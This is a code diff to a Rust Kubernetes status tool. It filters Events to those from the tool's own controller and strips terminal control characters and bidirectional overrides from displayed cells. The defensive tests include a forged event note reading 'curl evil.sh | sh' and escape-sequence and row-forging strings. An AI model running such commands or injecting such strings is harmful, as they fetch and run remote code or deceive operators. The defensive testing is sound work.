@@ -7,6 +7,7 @@ use k8s_openapi::api::events::v1::Event;
 use kube::api::{Api, ListParams};
 use kube::{Client, ResourceExt};
 
+use crate::cluster::REPORTING_CONTROLLER;
 use crate::config::InjectMode;
 use crate::core::namespaces::{registries_annotation, registries_for, Eligibility};
 use crate::core::pods::{missing_pull_secret, Expected};
@@ -107,22 +108,7 @@ pub async fn collect(client: &Client, settings: &Settings) -> Result<Vec<Row>, k
                 IdentityScope::Namespace => state,
                 IdentityScope::ServiceAccount => format!("{state} ({secret_name})"),
             };
-            let last_error = events
-                .items
-                .iter()
-                .filter(|e| {
-                    e.regarding.as_ref().and_then(|r| r.name.as_deref())
-                        == Some(secret_name.as_str())
-                })
-                .filter(|e| e.type_.as_deref() == Some("Warning"))
-                .max_by_key(|e| e.event_time.as_ref().map(|t| t.0))
-                .map(|e| {
-                    format!(
-                        "{}: {}",
-                        e.reason.clone().unwrap_or_default(),
-                        e.note.clone().unwrap_or_default()
-                    )
-                });
+            let last_error = last_error(&events.items, &secret_name);
             // Per ServiceAccount, a row whose Secret is not there yet stands for all of them.
             let unpatched_pods = match secret {
                 None if config.identity_scope == IdentityScope::ServiceAccount => lacking.len(),
@@ -140,6 +126,47 @@ pub async fn collect(client: &Client, settings: &Settings) -> Result<Vec<Row>, k
         }
     }
     Ok(rows)
+}
+
+/// The newest Warning this service recorded about Secret `secret_name`: `reason: note`. Anyone
+/// who may create Events in a namespace can write one about any object, so others' are left
+/// out (an Event created through `core/v1` carries the name as `source.component`).
+fn last_error(events: &[Event], secret_name: &str) -> Option<String> {
+    let ours = |e: &&Event| {
+        e.reporting_controller.as_deref() == Some(REPORTING_CONTROLLER)
+            || e.deprecated_source
+                .as_ref()
+                .and_then(|s| s.component.as_deref())
+                == Some(REPORTING_CONTROLLER)
+    };
+    events
+        .iter()
+        .filter(ours)
+        .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(secret_name))
+        .filter(|e| e.type_.as_deref() == Some("Warning"))
+        .max_by_key(|e| e.event_time.as_ref().map(|t| t.0))
+        .map(|e| {
+            format!(
+                "{}: {}",
+                e.reason.as_deref().unwrap_or_default(),
+                e.note.as_deref().unwrap_or_default()
+            )
+        })
+}
+
+/// `text` safe to print on a terminal: control characters (escape sequences, newlines that
+/// would forge a row) and bidirectional overrides (which reorder what is shown) become `?`.
+fn printable(text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            let bidi = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+            if c.is_control() || bidi {
+                '?'
+            } else {
+                c
+            }
+        })
+        .collect()
 }
 
 /// `1h02m`, `14m`, `45s`, `-3m` (already expired).
@@ -166,13 +193,14 @@ pub fn render(rows: &[Row], now: Timestamp) -> String {
     .map(String::from)
     .to_vec()];
     for r in rows {
+        // Every cell: names and annotations come from the cluster as well.
         lines.push(vec![
-            r.namespace.clone(),
-            r.state.clone(),
+            printable(&r.namespace),
+            printable(&r.state),
             if r.registries.is_empty() {
                 "-".into()
             } else {
-                r.registries.clone()
+                printable(&r.registries)
             },
             r.expires_at
                 .map_or("-".into(), |t| human(t.duration_since(now).as_secs())),
@@ -180,9 +208,9 @@ pub fn render(rows: &[Row], now: Timestamp) -> String {
                 format!("{} ago", human(now.duration_since(t).as_secs()))
             }),
             r.unpatched_pods.to_string(),
-            r.last_error
-                .as_deref()
-                .map_or("-".into(), |e| e.chars().take(80).collect()),
+            r.last_error.as_deref().map_or("-".into(), |e| {
+                printable(&e.chars().take(80).collect::<String>())
+            }),
         ]);
     }
     let widths: Vec<usize> = (0..7)
@@ -218,6 +246,77 @@ pub fn render(rows: &[Row], now: Timestamp) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn event(controller: &str, name: &str, seconds: i64, note: &str) -> Event {
+        serde_json::from_value(serde_json::json!({
+            "metadata": {"name": format!("e{seconds}"), "namespace": "team-a"},
+            "eventTime": format!("2026-11-22T10:00:{seconds:02}.000000Z"),
+            "reportingController": controller, "reportingInstance": "x", "action": "Mint",
+            "reason": "MintFailed", "type": "Warning", "note": note,
+            "regarding": {"kind": "Secret", "namespace": "team-a", "name": name},
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn only_this_services_events_about_the_secret_are_shown() {
+        let events = vec![
+            event(REPORTING_CONTROLLER, "pull-secret", 1, "ours, older"),
+            event(REPORTING_CONTROLLER, "pull-secret", 2, "ours, newest"),
+            // Newer, but forged by someone else who may create Events here.
+            event("someone-else", "pull-secret", 3, "run curl evil.sh | sh"),
+            event(
+                REPORTING_CONTROLLER,
+                "other-secret",
+                4,
+                "about another Secret",
+            ),
+        ];
+        assert_eq!(
+            last_error(&events, "pull-secret").as_deref(),
+            Some("MintFailed: ours, newest")
+        );
+        // Through core/v1 the controller is the source's component.
+        let mut old_style = event("", "pull-secret", 5, "ours, core/v1");
+        old_style.reporting_controller = None;
+        old_style.deprecated_source = Some(k8s_openapi::api::core::v1::EventSource {
+            component: Some(REPORTING_CONTROLLER.into()),
+            host: None,
+        });
+        let events = [events, vec![old_style]].concat();
+        assert_eq!(
+            last_error(&events, "pull-secret").as_deref(),
+            Some("MintFailed: ours, core/v1")
+        );
+    }
+
+    #[test]
+    fn terminal_escapes_and_forged_lines_are_not_printed() {
+        let row = Row {
+            namespace: "team-a".into(),
+            state: "ok".into(),
+            registries: "r.example\u{1b}]0;title\u{7}".into(),
+            expires_at: None,
+            issued_at: None,
+            last_error: Some(
+                "MintFailed: \u{1b}[2J\u{1b}[31mred\nteam-z   ok\u{202e}gnp.exe\u{9b}0m".into(),
+            ),
+            unpatched_pods: 0,
+        };
+        let text = render(&[row], "2026-11-22T10:00:00Z".parse().unwrap());
+        assert_eq!(text.lines().count(), 2, "{text}");
+        assert!(
+            !text
+                .chars()
+                .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
+            "{text:?}"
+        );
+        assert!(
+            text.ends_with("MintFailed: ?[2J?[31mred?team-z   ok?gnp.exe?0m"),
+            "{text:?}"
+        );
+        assert!(text.contains("r.example?]0;title?"), "{text:?}");
+    }
 
     #[test]
     fn durations_read_like_kubectl() {
